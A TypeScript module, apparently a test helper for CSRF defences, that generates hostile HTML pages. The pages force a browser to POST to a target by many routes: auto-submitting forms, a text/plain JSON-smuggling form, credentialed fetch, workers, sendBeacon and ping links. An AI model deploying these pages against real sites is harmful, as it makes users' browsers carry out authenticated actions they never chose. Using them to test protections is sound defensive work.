/** What a hostile page makes a browser post, and where. */
export interface Target {
  url: string
  fields: Record<string, string>
}

/** HTML that makes a browser post as soon as it is shown. */
type Attack = (target: Target) => string

// Of the element before the script.
const SUBMIT = '<script>document.currentScript.previousElementSibling.submit()</script>'
const CLICK = '<script>document.currentScript.previousElementSibling.click()</script>'
const script = (code: string): string => `<script>${code}</script>`
const encoded = ({ fields }: Target): string => `new URLSearchParams(${JSON.stringify(fields)})`
const fetching = (target: Target): string =>
  `fetch('${target.url}', { method: 'POST', mode: 'no-cors', credentials: 'include', body: ${encoded(target)} })`
/** The hostile site redirects the browser with method and body. */
const redirected = ({ url, fields }: Target): Target => ({ url: `/?redirect=${encodeURIComponent(url)}`, fields })

function form({ url, fields }: Target, attributes = ''): string {
  const inputs = Object.entries(fields).map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
  return `<form method="post" action="${url}" ${attributes}>${inputs.join('')}</form>${SUBMIT}`
}

/** A form whose plain text is JSON: the part before the `=` of a field is its name, the rest its value. */
function plainTextForm({ url, fields }: Target): string {
  const [name = '', value = ''] = JSON.stringify({ ...fields, x: '=' }).split('=')
  return `<form method="post" enctype="text/plain" action="${url}"><input type="hidden" name='${name}' value='${value}'></form>${SUBMIT}`
}

/** These navigate, so each needs its own page. */
const FORMS: Attack[] = [
  (target) => form(target),
  plainTextForm,
  (target) => `<meta name="referrer" content="no-referrer">${form(target)}`,
  (target) => form(redirected(target)),
]

const SCRIPTS: Attack[] = [
  (target) => `<iframe name="${target.url}"></iframe>${form(target, `target="${target.url}"`)}`,
  // Browsers send no cookie from a sandbox.
  (target) => `<iframe sandbox="allow-forms allow-scripts" srcdoc='${form(target)}'></iframe>`,
  (target) => script(fetching(target)),
  (target) => script(fetching(redirected(target))),
  (target) => script(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(fetching(target))}])))`),
  (target) => script(`navigator.sendBeacon('${target.url}', ${encoded(target)})`),
  ({ url }) => `<a href="#" ping="${url}">prize</a>${CLICK}`,
]

/** How many posts {@link attackPages} make. */
export const ATTACKS = FORMS.length + SCRIPTS.length
/** How many of them have the cookie, if the browser sends it to this site. */
export const ATTACKS_WITH_COOKIE = ATTACKS - 1

/** Pages that post to a target in every way that browsers have. */
export function attackPages(target: Target): string[] {
  return [...FORMS.map((attack) => attack(target)), SCRIPTS.map((attack) => attack(target)).join('\n')]
}
